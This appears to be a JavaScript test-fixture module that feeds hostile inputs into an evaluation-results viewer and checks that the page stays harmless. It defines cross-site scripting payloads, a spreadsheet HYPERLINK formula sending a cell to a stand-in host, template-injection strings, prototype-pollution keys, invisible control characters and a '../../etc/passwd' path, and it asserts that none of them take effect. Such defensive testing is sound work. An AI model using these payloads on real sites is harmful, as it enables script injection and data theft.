// Texts that nobody has vetted, results and files that hold them, and what a page must not do with them.

import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after } from "node:test";
import { evaluate, turn } from "./scored.mjs";

/** A script that says that it ran. */
export const OWN = "globalThis.__owned=1";
export const ELSEWHERE = "http://elsewhere.invalid";

/** Markup, scripts, addresses and what ends a context that text may stand in. */
export const MARKUP = [
  `<img src=x onerror="${OWN}">`,
  `<script>${OWN}</script>`,
  `"><svg onload="${OWN}">`,
  `'" autofocus onfocus="${OWN}" x="`,
  `<a href="javascript:${OWN}">go</a>`,
  `[go](javascript:${OWN}) ![see](${ELSEWHERE}/see.png)`,
  `<iframe srcdoc="<script>parent.${OWN}</script>"></iframe>`,
  `<link rel=stylesheet href=${ELSEWHERE}/a.css><style>@import "${ELSEWHERE}/b.css";</style>`,
  `</style></title></textarea></script>--><!-- ]]> <![CDATA[ <?xml ?>`,
  `{{constructor.constructor('${OWN}')()}} \${${OWN}}`,
].join(" ");

const UNSEEN =
  "\u202Eesrever\u202C \u2066kept\u2069 \u200Bzero\uFEFF width \u0000\u0007\u001B[31mred\u001B[0m\u0085\u2028";

const FORMULA = `=HYPERLINK("${ELSEWHERE}?x="&A1,"go")`;
/** Everything at once. */
export const EVERYTHING = `${FORMULA} ${MARKUP} ${UNSEEN}`;

export const PROTOTYPE_KEYS = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf"];

/** `{"a": {"a": … }}` as JSON text. */
export const nested = (depth) => `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;

/** Arguments as JSON text, in which `__proto__` is a key like any other. */
const ARGS = JSON.stringify({ city: MARKUP, [MARKUP]: UNSEEN, list: [FORMULA, { [UNSEEN]: null }] }).replace(
  /\}$/,
  `,"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"deep":${nested(100)}}`,
);

/** A rubric of a config. */
export const rubric = (id, text) => ({
  rubricId: id,
  rubricContent: { textProperty: text },
  description: text,
  type: text,
});

/** The conversations: each case id is itself an attack. */
export function hostileCases() {
  const calls = [{ name: EVERYTHING, args: { ...JSON.parse(ARGS) } }];
  const said = turn(EVERYTHING, `${EVERYTHING} agreed`, calls);
  const done = turn(EVERYTHING, `${EVERYTHING} differed`, [{ name: MARKUP, args: { [MARKUP]: FORMULA } }, ...calls]);
  const ids = [EVERYTHING, ...PROTOTYPE_KEYS, UNSEEN, "+1+1", "@SUM(A1)", "x".repeat(10_000), "../../etc/passwd"];
  return Object.fromEntries(
    ids.map((id) => [
      id,
      [
        [said, said],
        [done, done],
      ],
    ]),
  );
}

export const RUBRICS = "rubric_based_final_response_quality_v1";
const SENTENCES = "hallucinations_v1";

/** Judged by a judge that is itself hostile. */
export async function hostileResults() {
  const conversations = Object.entries(hostileCases());
  const side = (at) => ({
    evalSetId: EVERYTHING,
    // A list of pairs: `__proto__` as a case id has to stay one.
    evalCases: conversations.map(([evalId, turns]) => ({ evalId, conversation: turns[at] })),
  });
  return evaluate({
    evalSet: JSON.stringify(side(0)),
    actual: JSON.stringify(side(1)),
    criteria: {
      tool_trajectory_avg_score: 1,
      response_match_score: 0.5,
      final_response_match_v2: { threshold: 0.5, judgeModelOptions: { numSamples: 2 } },
      [RUBRICS]: { threshold: 0.5, rubrics: [rubric("constructor", EVERYTHING), rubric(MARKUP, MARKUP)] },
      [SENTENCES]: 0.5,
    },
    judge: Object.assign(
      ({ metricName, purpose }) => {
        if (metricName === RUBRICS) {
          const entry = (text) => `Property: ${text}\nEvidence: ${MARKUP}\nRationale: ${EVERYTHING}\nVerdict: no\n`;
          return entry(MARKUP) + entry(EVERYTHING);
        }
        if (purpose === "segment") return `<sentence>${MARKUP}</sentence><sentence>${FORMULA}</sentence>`;
        if (purpose === "validate") {
          return `sentence: ${MARKUP}\nlabel: contradictory\nrationale: ${EVERYTHING}\nsupporting_excerpt: null\ncontradicting_excerpt: ${MARKUP}\n`;
        }
        return `{"reasoning": ${JSON.stringify(EVERYTHING)}, "is_the_agent_response_valid": "invalid"}`;
      },
      { model: MARKUP },
    ),
  });
}

/** Notes what a page must never do. */
export function watched(page) {
  const did = [];
  const origin = new URL(page.url()).origin;
  page.on("dialog", (dialog) => {
    did.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("popup", () => did.push("a window"));
  page.on("request", (request) => {
    const url = new URL(request.url());
    if (url.protocol.startsWith("http") && url.origin !== origin) did.push(`a request to ${url.origin}`);
  });
  return did;
}

/** What {@link watched} has noted is nothing, and what the page shows is text. */
export async function assertHarmless(page, did, where) {
  assert.deepEqual(did, [], where);
  const seen = await page.evaluate(() => ({
    owned: globalThis.__owned,
    polluted: {}.polluted,
    foreign: [...document.querySelectorAll("main :is(img, iframe, script, link, style, object, embed, base)")].length,
    links: [...document.querySelectorAll("a[href]")].filter(({ protocol }) => !/^(https?|blob):$/.test(protocol))
      .length,
    handlers: [...document.querySelectorAll("main *")].flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith("on")),
    ),
    tooWide: document.documentElement.scrollWidth - innerWidth,
  }));
  assert.equal(seen.owned, undefined, `${where} ran a script`);
  assert.equal(seen.polluted, undefined, `${where} changed every object`);
  assert.deepEqual([seen.foreign, seen.links, seen.handlers], [0, 0, []], `${where} holds markup that was text`);
  assert.ok(seen.tooWide <= 0, `${where} is ${seen.tooWide} px too wide`);
  assert.ok((await page.title()).length < 300, `${where} has a title that is too long`);
}

/** A file to choose or drop. */
export const file = (name, text) => ({ name, mimeType: "application/json", buffer: Buffer.from(text) });

const folder = mkdtempSync(join(tmpdir(), "hostile-"));
after(() => rmSync(folder, { recursive: true }));

/** A file on the disk: what is large takes a page long to get from a test. */
export function onDisk(name, content) {
  const path = join(folder, name);
  writeFileSync(path, content);
  return path;
}
